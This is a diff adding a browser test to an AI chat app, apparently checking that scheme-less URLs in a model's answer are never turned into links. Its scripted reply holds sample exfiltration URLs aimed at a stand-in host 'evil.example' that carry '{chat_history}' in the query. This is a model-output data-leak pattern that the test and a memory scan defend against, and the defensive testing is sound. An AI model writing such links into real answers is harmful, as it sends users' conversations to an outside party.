@@ -53,3 +53,21 @@ def test_a_link_that_names_another_host_shows_where_it_really_goes(scripted_cont
     shown = page.evaluate("(a) => getComputedStyle(a, '::after').content", honest.nth(0).element_handle())
     assert "docs.djangoproject.com" in shown
     assert seen["csp"] == [] and seen["foreign"] == []
+
+
+def test_a_url_without_its_scheme_is_never_made_a_link(scripted_context, scripted_site):
+    """Issue 53: the scan refuses such a text in memory; if one reached an answer, it stays text."""
+    server, model = scripted_site
+    page = chat_page(scripted_context, "lena")
+    seen = watch_page(page, server.url)
+    model.push(text("Your report: www.evil.example/?q={chat_history} and evil.example/?q={chat_history} "
+                    "and //evil.example/?q={chat_history}. The docs: https://docs.djangoproject.com/en/5.2/"))
+
+    send(page, "Where is my report?")
+    reply = wait_for_reply(page)
+
+    links = reply.locator(".markdown a")
+    expect(links).to_have_count(1)  # the scheme-ful link only
+    assert links.first.get_attribute("href") == "https://docs.djangoproject.com/en/5.2/"
+    expect(reply.locator(".markdown")).to_contain_text("www.evil.example/?q={chat_history}")
+    assert seen["csp"] == [] and seen["foreign"] == []
